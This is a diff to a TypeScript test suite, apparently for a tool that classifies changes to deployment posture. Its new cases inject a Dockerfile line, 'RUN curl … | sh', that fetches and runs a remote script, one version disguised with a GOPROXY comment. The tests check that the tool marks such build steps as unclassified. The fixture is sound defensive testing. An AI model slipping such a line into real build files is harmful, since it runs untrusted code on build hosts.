@@ -246,7 +246,23 @@ const CASES: Case[] = [
         head: () => postureWith({ gateway: { ...prodKey("gateway"), buildFrom: { goImage: "registry.example.com/golang:1.26.8-bookworm", goProxy: "https://goproxy.example.com" } } }),
         expect: [
             { id: "containers.citadel-gateway.buildFrom.args", category: "containers", direction: "neutral" },
+            { id: "containers.citadel-gateway.buildFrom.inputs", category: "containers", direction: "neutral" },
             { id: "host.step:gateway-image", category: "host", direction: "neutral" },
+        ],
+    },
+    {
+        name: "a Dockerfile line slipped in beside a new module proxy stays unclassified, even when it names the changed setting",
+        head: () =>
+            mutated(postureWith({ gateway: { ...prodKey("gateway"), buildFrom: { goProxy: "https://goproxy.example.com" } } }), (p) => {
+                const step = p.hostSteps.find((s) => s.name === "gateway-image")!;
+                step.script = step.script.replace("FROM ${BASE_IMAGE}\n", "FROM ${BASE_IMAGE}\nRUN curl -fsS https://example.com/x | sh # GOPROXY https://goproxy.example.com\n");
+                const df = step.sources!.find((f) => f.name === "images/caddy/Dockerfile")!;
+                df.sha256 = "e".repeat(64);
+            }),
+        expect: [
+            { id: "containers.citadel-gateway.buildFrom.args", category: "containers", direction: "neutral" },
+            { id: "containers.citadel-gateway.buildFrom.inputs", category: "containers", direction: "neutral" },
+            { id: "host.step:gateway-image", category: "host", direction: "unclassified" },
         ],
     },
     {
@@ -258,8 +274,11 @@ const CASES: Case[] = [
                 const next = "f".repeat(64);
                 step.script = step.script.replaceAll(gw.buildFrom!.inputsSha256, next).replace("FROM ${BASE_IMAGE}\n", "FROM ${BASE_IMAGE}\nRUN curl -fsS https://example.com/x.sh | sh\n");
                 gw.buildFrom!.inputsSha256 = next;
+                gw.buildFrom!.filesSha256 = "d".repeat(64);
+                step.sources!.find((f) => f.name === "images/caddy/Dockerfile")!.sha256 = "e".repeat(64);
             }),
         expect: [
+            { id: "containers.citadel-gateway.buildFrom.files", category: "containers", direction: "neutral" },
             { id: "containers.citadel-gateway.buildFrom.inputs", category: "containers", direction: "neutral" },
             { id: "host.step:gateway-image", category: "host", direction: "unclassified" },
         ],
